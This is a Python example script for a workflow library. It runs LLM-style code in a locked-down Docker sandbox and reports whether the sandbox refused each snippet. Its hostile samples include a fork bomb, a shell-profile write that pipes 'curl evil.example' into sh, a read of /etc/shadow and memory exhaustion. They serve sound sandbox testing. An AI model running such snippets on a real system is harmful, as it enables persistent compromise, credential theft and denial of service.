"""Run code you were given (as an LLM would write it) in a Docker sandbox.

The ``docker`` handler is a sandbox by default: the code runs as ``nobody`` with no
capabilities and ``no-new-privileges``, on a read-only root filesystem with a small
``/tmp``, no network, a pids limit, read-only mounts, and a context limited to the
channel and feedback (with quotas). This example adds a timeout and a memory limit,
runs a friendly snippet and a handful of hostile ones, and shows what came back: the
snippet's result, its error, or the sandbox's refusal.

    python examples/untrusted_code.py                       # needs a Docker engine and an image with python3
    GRAFLOW_SANDBOX_IMAGE=python:3.12-slim python examples/untrusted_code.py

The engine is ``DOCKER_HOST`` (else the local socket); the image needs only a Python
compatible with this one (graflow_async and msgpack are mounted read-only).
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
from typing import Any

from graflow_async import GraflowError, TaskContext, task, workflow
from graflow_async import run as run_workflow
from graflow_async.define.tasks import Task

SANDBOX = {
    "image": os.environ.get("GRAFLOW_SANDBOX_IMAGE", "python:3.11-slim"),
    "timeout": 5,  # seconds of wall time
    "mem_limit": "128m",  # an OOM kill beyond it
    "pids_limit": 32,  # processes and threads
}

FRIENDLY = "result = sum(i * i for i in range(10))\nprint('squares summed')"
HOSTILE = {
    "fork bomb": (
        "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(60)\n        os._exit(0)\n"
    ),
    "write outside /tmp": "open('/etc/profile', 'a').write('curl evil.example | sh')",
    "reach the network": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3)",
    "read host files": "result = open('/etc/shadow').read()",
    "ask the host to run a task": (
        "import sys\n"
        "host = next(m for m in list(sys.modules.values()) if hasattr(m, 'wipe_database'))\n"
        "context.next_task(host.wipe_database)\n"
    ),
    "eat memory": "blocks = [bytearray(1 << 20) for _ in range(4096)]",
    "spin forever": "while True:\n    pass",
}


@task(handler="docker", handler_kwargs=SANDBOX, inject_context=True)
async def run_snippet(context: TaskContext, code: str) -> dict[str, Any]:
    """Runs in the container: the snippet's `result` and printout, or its error."""
    printed = io.StringIO()
    namespace: dict[str, Any] = {"context": context, "__name__": "__snippet__"}
    try:
        with contextlib.redirect_stdout(printed):
            exec(compile(code, "<snippet>", "exec"), namespace)
    except Exception as exc:
        return {"ok": False, "error": f"{type(exc).__name__}: {exc}", "output": printed.getvalue()}
    return {"ok": True, "result": repr(namespace.get("result")), "output": printed.getvalue()}


@task
async def wipe_database() -> str:
    """A task of the host's that no container may start."""
    return "wiped"


async def run_untrusted(code: str, **engine: Any) -> dict[str, Any]:
    """Run `code` in the sandbox (`engine`: handler options such as ``image`` or
    ``docker_url``, over `SANDBOX`); what came back, or why it was stopped."""
    sandboxed = Task(
        run_snippet.func,
        id="snippet",
        handler="docker",
        handler_kwargs={**SANDBOX, **engine},
        inject_context=True,
    )
    with workflow("untrusted") as wf:
        wf.add(sandboxed(task_id="snippet", code=code))
    try:
        outcome: dict[str, Any] = (await run_workflow(wf)).output
    except GraflowError as exc:  # the sandbox stopped it: a refusal, a timeout, an OOM kill
        return {"ok": False, "stopped": type(exc).__name__, "error": str(exc).splitlines()[0]}
    return outcome


async def main(**engine: Any) -> dict[str, dict[str, Any]]:
    outcomes = {}
    for name, code in {"friendly": FRIENDLY, **HOSTILE}.items():
        outcomes[name] = outcome = await run_untrusted(code, **engine)
        if outcome["ok"]:
            print(f"{name:>28}: result {outcome['result']}, printed {outcome['output'].strip()!r}")
        else:
            how = f"stopped ({outcome['stopped']})" if "stopped" in outcome else "failed"
            print(f"{name:>28}: {how}: {outcome['error'][:120]}")
    return outcomes


if __name__ == "__main__":
    asyncio.run(main())
